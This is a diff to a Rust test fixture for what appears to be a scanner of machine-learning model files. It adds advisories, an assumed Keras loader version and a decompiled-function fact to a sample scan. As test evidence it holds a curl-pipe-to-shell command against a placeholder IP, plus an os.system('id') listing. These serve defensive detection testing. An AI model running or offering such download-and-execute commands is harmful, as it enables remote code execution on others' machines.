@@ -1,13 +1,13 @@
 //! One scan with something of everything, and as much malice as fits in names and strings.
 
 use davy_artifact::{
-    Artifact, Call, Deviation, Excerpt, Fact, Gap, Identity, Manner, Name, Quirk, Reading, Role,
-    Route, Site, Tensor, Value, Why,
+    Artifact, Call, Code, Deviation, Excerpt, Fact, Gap, Identity, Manner, Name, Quirk, Reading,
+    Role, Route, Site, Tensor, Value, When, Why,
 };
 use davy_bytes::{Blame, Span, escape};
 use davy_policy::{Policy, judge};
 use davy_report::{Detail, Report};
-use davy_rules::{Confidence, Finding, Rule, Severity};
+use davy_rules::{Advice, Confidence, Finding, Rule, Severity, Subject, advisories};
 use davy_scan::{Fingerprinted, Scan, Scanned};
 
 /// A name that clears a screen, turns text around, breaks lines, closes tags and starts links.
@@ -56,7 +56,8 @@ pub fn scan() -> Scan {
 /// Calls `check` with the report of `scan`, as if the sample's rules were all there are: snapshots
 /// do not change with the catalogue.
 pub fn with_report<T>(scan: &Scan, detail: Detail, check: impl FnOnce(&Report<'_>) -> T) -> T {
-    let mut report = Report::new(scan, &judge(scan, &Policy::default()), detail);
+    let assumed = ["loader=keras:3.11.3".parse().unwrap()];
+    let mut report = Report::new(scan, &judge(scan, &Policy::default()), detail).under(&assumed);
     report.rules = vec![&CALL, &HIDDEN];
     check(&report)
 }
@@ -86,6 +87,8 @@ fn checkpoint() -> Scanned {
     let hostile_one = artifact(&hostile, Some(0), 50, "zip", Reading::default());
     let mut findings = vec![finding(&HIDDEN, path, Span::new(64, 30), Route::None)];
     findings.push(finding(&CALL, &pickle, Span::new(12, 9), opcode(7)));
+    findings[0].finding.unassumed = Some(Severity::High);
+    findings[1].finding.advisories = advice();
     findings.extend((0..1_244).map(|at| {
         let mut finding = finding(&CALL, &hostile, Span::new(at, 1), Route::Member(HOSTILE.into()));
         finding.finding.severity = Severity::High;
@@ -146,9 +149,18 @@ pub fn finding(rule: &'static Rule, artifact: &str, span: Span, route: Route) ->
                       the rights of whoever loads it"
                 .into(),
             evidence: "os.system('curl -s http://203.0.113.7/x | sh')".into(),
+            subject: Subject::Unspecified,
+            advisories: vec![],
+            unassumed: None,
         },
         fingerprint: "00112233445566778899aabbccddeeff".into(),
     }
+}
+
+/// The first advisory that davy knows.
+fn advice() -> Vec<Advice> {
+    let advisory = &advisories()[0];
+    vec![Advice { advisory, written_by: Some("3.8.0".into()) }]
 }
 
 fn opcode(index: u64) -> Route {
@@ -170,6 +182,19 @@ fn members() -> Reading {
     reading.fact(member(HOSTILE, 50, 400));
     reading.deviation(Quirk::DuplicateName, Span::new(64, 30), Route::None, "`a` stands twice");
     reading
+}
+
+/// A function, as a reader lists it.
+fn function() -> Fact {
+    let code = Code {
+        language: "Python 3.11 byte code".into(),
+        name: HOSTILE.into(),
+        parameters: vec!["x".into()],
+        when: When::Used,
+        listing: format!("def f(x):\n    os.system('id')  # {HOSTILE}\n    return x\n"),
+        ..Code::default()
+    };
+    Fact::Code { code: Box::new(code), site: site(30, Route::None) }
 }
 
 fn unpickling() -> Reading {
@@ -213,6 +238,7 @@ fn unpickling() -> Reading {
             },
             site: site(60, Route::Tensor(HOSTILE.into())),
         },
+        function(),
     ];
     let mut reading = Reading::default();
     facts.into_iter().for_each(|fact| reading.fact(fact));
